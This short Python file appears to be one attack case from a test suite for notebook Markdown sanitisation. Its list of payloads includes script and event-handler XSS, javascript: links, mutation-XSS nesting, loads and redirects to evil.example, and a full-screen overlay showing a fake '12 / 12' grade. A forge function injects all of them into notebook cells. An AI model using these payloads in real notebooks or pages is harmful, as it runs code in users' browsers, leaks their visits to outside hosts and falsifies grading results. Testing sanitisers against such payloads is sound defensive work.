# attack: guiones, manejadores, estilos, formularios, marcos e imágenes de fuera en su Markdown
# entry: 30
# where: notebook

RUN = "document.title='GANA'"
BAIT = [
    f"<script>{RUN}</script>",
    f'<img src="x" onerror="{RUN}">',
    f'<svg onload="{RUN}"><animate onbegin="{RUN}"/></svg>',
    f"[pulsa](javascript:{RUN}) <javascript:{RUN}> [o][x]\n\n[x]: javascript:{RUN}",
    "![fuera](http://evil.example/pixel.png) <http://evil.example/>",
    '<iframe src="http://evil.example/"></iframe><object data="http://evil.example/"></object>',
    '<form action="http://evil.example/"><button formaction="http://evil.example/">Resolve</button></form>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/">',
    "<style>body{display:none}</style><link rel=stylesheet href=http://evil.example/x.css>",
    '<div style="position:fixed;inset:0;background:white" class="panel nbgrader_cell" id="notebook">Score: 12 / 12</div>',
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=" + RUN + "&gt;\">",
    "<details open ontoggle=" + RUN + "><a href='data:text/html,<script>x</script>'>x</a>",
    "# T {onclick=" + RUN + "}\n\n```html\n<script>" + RUN + "</script>\n```",
    "`</code><script>" + RUN + "</script>`",
    "| a |\n|---|\n| <img src=x onerror=" + RUN + "> |",
]
def forge(notebook):
    for cell in notebook["cells"]:
        if cell["id"] == "matrices-compartidas":
            cell["source"] = "\n\n".join(BAIT)
    for place, text in enumerate(BAIT):
        notebook["cells"].append({"cell_type": ("markdown", "raw")[place % 2], "id": f"b{place}", "metadata": {"raw_mimetype": "text/html"}, "source": text})
    return notebook
